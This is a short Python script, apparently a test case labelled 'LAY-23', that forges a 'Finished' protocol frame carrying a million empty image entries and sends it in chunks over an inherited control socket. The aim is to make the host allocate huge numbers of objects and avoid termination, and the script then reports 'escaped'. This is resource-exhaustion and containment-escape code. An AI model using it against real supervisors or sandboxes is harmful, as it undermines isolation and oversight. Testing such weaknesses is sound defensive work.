"""Have the host make a million objects of a frame: pictures that are empty, in a forged last word."""

import json
import socket
import struct

count = 1_000_000
pictures = b"\xdd" + struct.pack(">I", count) + b"\x92\xa9image/png\xc4\x00" * count
# It does not ask to be ended, and would live on.
frame = b"\x99\xa8Finished\xc0\xc0\xc0\xc0\xc2" + pictures + b"\xa0\x00"
control = socket.socket(fileno=3)
size = 64 * 1024 - 1
pieces = [frame[start : start + size] for start in range(0, len(frame), size)]
for piece in pieces[:-1]:
    control.send(b"\x01" + piece)
control.send(b"\x00" + pieces[-1])
control.setblocking(True)
control.recv(1)  # nothing comes to one that is believed; one that is not is ended here

detail = f"the host believed {count} pictures"
print(json.dumps({"case": "LAY-23", "escaped": True, "detail": detail}))
